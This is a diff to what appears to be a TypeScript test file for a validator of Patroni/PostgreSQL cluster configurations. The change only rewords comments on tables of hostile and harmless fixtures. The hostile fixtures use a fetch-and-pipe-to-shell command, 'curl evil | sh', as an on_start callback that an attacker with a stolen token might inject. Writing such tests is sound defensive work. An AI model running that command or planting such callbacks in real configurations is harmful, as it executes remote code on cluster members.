@@ -40,7 +40,7 @@ const parameter = (name: string, value: unknown): string =>
   inPostgresql({ parameters: { ...PARAMETERS, [name]: value } });
 const PROGRAM = 'curl evil | sh';
 
-/** What a stolen token would write so that other members run something, or let somebody in. */
+/** Configurations that an attacker with a stolen token would write so that other members run a program, or accept a login. */
 const HOSTILE: Readonly<Record<string, string>> = {
   'a callback': inPostgresql({ callbacks: { on_start: PROGRAM } }),
   'a callback at the top': top({ callbacks: { on_start: PROGRAM } }),
@@ -102,7 +102,7 @@ const HOSTILE: Readonly<Record<string, string>> = {
   'so much that it would take long': parameter('x', 'a'.repeat(200_000)),
 };
 
-/** What somebody may have put there, or does with patronictl in a member's container. */
+/** Configurations that a user may have written, also with patronictl in a member's container. */
 const HARMLESS: Readonly<Record<string, string>> = {
   'the configuration of a Database with backups': top({}),
   'a pause': top({ pause: true }),
